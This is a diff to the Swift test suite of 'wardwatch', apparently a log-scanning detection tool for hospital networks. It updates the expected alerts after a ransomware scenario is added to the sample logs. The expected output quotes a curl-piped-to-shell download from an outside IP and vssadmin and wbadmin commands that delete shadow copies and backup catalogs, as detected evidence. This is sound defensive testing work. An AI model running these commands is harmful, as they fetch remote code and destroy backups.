@@ -17,10 +17,12 @@ import Glibc
         let run = try wardwatch(["scan", "--year", "2026", "SampleLogs"])
         #expect(run.status == 0)
         #expect(run.stdout == (try expected("scan-samplelogs.jsonl")))
-        #expect(run.stdout.split(separator: "\n").count == 36)
-        #expect(run.stderr.contains("  alerts: 36 (critical 3, high 17, medium 12, low 1, informational 3)\n"))
-        #expect(run.stderr.contains("  events by dataset: unparsed 23, syslog.rfc3164 56, syslog.rfc5424 9, firewall.netfilter 1, firewall.fortigate 1, firewall.cisco_asa 15, firewall.filterlog 1, firewall.cef 1, hl7.v2 3, hl7.atna 3, fhir.auditevent 23\n"))
-        #expect(run.stderr.contains("  correlations: 11 loaded, 9 fired; 90 events of their rules; 2 without a group-by field (no group); peak 29 groups\n"))
+        #expect(run.stdout.split(separator: "\n").count == 52)
+        #expect(run.stderr.contains("  alerts: 52 (critical 6, high 25, medium 14, low 1, informational 6)\n"))
+        #expect(run.stderr.contains("  events by dataset: unparsed 2, syslog.rfc3164 56, syslog.rfc5424 506, windows.eventlog 112, firewall.netfilter 1, firewall.fortigate 359, firewall.cisco_asa 15, firewall.filterlog 1, firewall.cef 1, hl7.v2 69, hl7.atna 3, fhir.auditevent 570\n"))
+        #expect(run.stderr.contains("  correlations: 26 loaded, 20 fired; 829 events of their rules; 2 without a group-by field (no group); peak 172 groups\n"))
+        // The bundled rules that need the site's placeholder values are off, and the summary says so.
+        #expect(run.stderr.contains("  rules off until the site gives their placeholders values in "))
         var correlations: [String] = []
         for line in run.stdout.split(separator: "\n") {
             let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
@@ -34,13 +36,21 @@ import Glibc
                 #expect((object["rule.matched"] as? [String])?.isEmpty == false)
             }
         }
-        // Every hospital correlation of Rules/correlations fires on the sequences SampleLogs holds.
+        // Every hospital correlation of Rules/correlations fires on the sequences SampleLogs holds; the
+        // day at a hospital (SampleLogs/hospital-day) adds shared credentials, a snooping clerk and the
+        // ransomware night (VPN spraying, RDP and SMB sweeps, mass service stop).
         #expect(correlations == [
             "Password spraying from one address", "Password guessing against SSH or the EHR from one address",
             "Failed Logins with Different Accounts from Single Source - Linux", "SSH login from an address that was guessing passwords",
             "Port scan of the imaging network", "Network Scans Count By Destination Port",
             "Break-glass access followed by a bulk export by the same user", "One account signed in from two addresses within 5 minutes",
             "One user opened the records of more than 20 patients in an hour",
+            "One account signed in from two addresses within 5 minutes", "One user opened the records of more than 20 patients in an hour",
+            "VPN session started (FortiGate SSL-VPN or Cisco ASA)", "VPN session started (FortiGate SSL-VPN or Cisco ASA)",
+            "VPN password spraying from one address", "VPN session started (FortiGate SSL-VPN or Cisco ASA)",
+            "VPN login from an address that was password spraying", "RDP sweep - one host connecting to many hosts on TCP 3389",
+            "Network Scans Count By Destination IP", "SMB sweep - one host connecting to many hosts on TCP 445",
+            "Mass service stop - ten or more services stopped on one Windows host within 5 minutes",
         ])
     }
 
@@ -152,7 +162,7 @@ import Glibc
     @Test func anOutputThatCannotBeWrittenStopsTheRunWithItsError() throws {
         let run = try wardwatch(["scan", "--year", "2026", "--output", "/dev/full", "SampleLogs"])
         #expect(run.status == 4)
-        #expect(run.stderr.hasSuffix("wardwatch: error: writing alerts failed after 0 of 36 alerts: No space left on device; the run stopped there (inputs after it were not read).\n"))
+        #expect(run.stderr.hasSuffix("wardwatch: error: writing alerts failed after 0 of 52 alerts: No space left on device; the run stopped there (inputs after it were not read).\n"))
     }
 
     /// A pathological pattern on a long line: PCRE2 gives up at the match limit (in bounded time); the
@@ -285,8 +295,8 @@ import Glibc
         let run = try wardwatch(["scan", "-q", "-f", "table", "--year", "2026", "SampleLogs"])
         #expect(run.stdout == (try expected("scan-samplelogs-table.txt")))
         let rows = run.stdout.split(separator: "\n").dropFirst()
-        #expect(rows.count == 26)
-        #expect(rows.first == "critical             1  2026-11-22T07:36:52Z  2026-11-22T07:36:52Z  Download piped into a shell")
+        #expect(rows.count == 37)
+        #expect(rows.first == "critical             2  2026-11-24T23:16:12Z  2026-11-24T23:17:01Z  Shadow copies, backup catalog or boot recovery deleted or disabled")
         #expect(rows.contains("high                 7  2026-11-22T03:02:11Z  2026-11-22T05:00:02Z  Inbound DICOM or HL7 connection from outside the hospital"))
         let json = try wardwatch(["scan", "--year", "2026", "SampleLogs"])
         #expect(rows.map { Int($0.dropFirst(13).prefix(9).trimmingCharacters(in: .whitespaces))! }.reduce(0, +)
@@ -294,8 +304,8 @@ import Glibc
         let folder = try wardwatch(["scan", "-f", "table", "-o", "/tmp/", "SampleLogs"])
         #expect(folder.status == 2)
         let markdown = try wardwatch(["scan", "-q", "-f", "markdown", "--year", "2026", "SampleLogs"])
-        #expect(markdown.stdout.hasPrefix("## wardwatch: 36 alerts from 26 rules\n\nEvents from 2026-11-21T08:00:00Z to 2026-11-22T23:47:09Z; 136 events read.\n\n| level | alerts | first | last | rule |\n| --- | ---: | --- | --- | --- |\n| critical | 1 | 2026-11-22T07:36:52Z | 2026-11-22T07:36:52Z | Download piped into a shell |\n"))
-        #expect(markdown.stdout.split(separator: "\n").count == 4 + 26)
+        #expect(markdown.stdout.hasPrefix("## wardwatch: 52 alerts from 37 rules\n\nEvents from 2026-11-21T08:00:00Z to 2026-11-24T23:58:40Z; 1,695 events read.\n\n| level | alerts | first | last | rule |\n| --- | ---: | --- | --- | --- |\n| critical | 2 | 2026-11-24T23:16:12Z | 2026-11-24T23:17:01Z | Shadow copies, backup catalog or boot recovery deleted or disabled |\n"))
+        #expect(markdown.stdout.split(separator: "\n").count == 4 + 37)
     }
 
     /// `--format csv`: the golden timeline of SampleLogs (the same alerts as the JSON golden file, a
@@ -358,7 +368,7 @@ import Glibc
             counts[level] = text.split(separator: "\n").count
             for line in text.split(separator: "\n") { #expect(line.contains("\"rule.level\":\"\(level)\"")) }
         }
-        #expect(counts == ["critical": 3, "high": 17, "medium": 12, "low": 1, "informational": 3])
+        #expect(counts == ["critical": 6, "high": 25, "medium": 14, "low": 1, "informational": 6])
     }
 
     @Test func timeWindowAndMinimumLevelFilter() throws {
@@ -394,6 +404,9 @@ import Glibc
             2026-11-22T03:24:39Z  CRITICAL  SSH login from an address that was …  temporal_ordered 2 in 30m  source=203.0.113.50  2 events from SampleLogs/linux/secure byte 869
             2026-11-22T07:10:00Z  CRITICAL  Break-glass access followed by a bu…  temporal_ordered 2 in 1h  user=jmiller  2 events from SampleLogs/ehr/ehr-app.log byte 0
             2026-11-22T07:36:52Z  CRITICAL  Download piped into a shell           ehr-app01     jmiller     -                jmiller : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash -c curl -fsSL http://45.133.1.20/upd.sh | sh  (SampleLogs/linux/auth.log:18)
+            2026-11-24T22:49:12Z  CRITICAL  VPN login from an address that was …  temporal_ordered 2 in 30m  source=203.0.113.77  2 events from SampleLogs/hospital-day/vpn-fortigate.log byte 7119
+            2026-11-24T23:16:12Z  CRITICAL  Shadow copies, backup catalog or bo…  BKP01.hilde…  jfranke     -                Windows 4688 vssadmin.exe  delete shadows /all /quiet  (SampleLogs/hospital-day/windows-bkp01.jsonl:9)
+            2026-11-24T23:17:01Z  CRITICAL  Shadow copies, backup catalog or bo…  BKP01.hilde…  jfranke     -                Windows 4688 wbadmin  delete catalog -quiet  (SampleLogs/hospital-day/windows-bkp01.jsonl:10)
 
             """)
     }
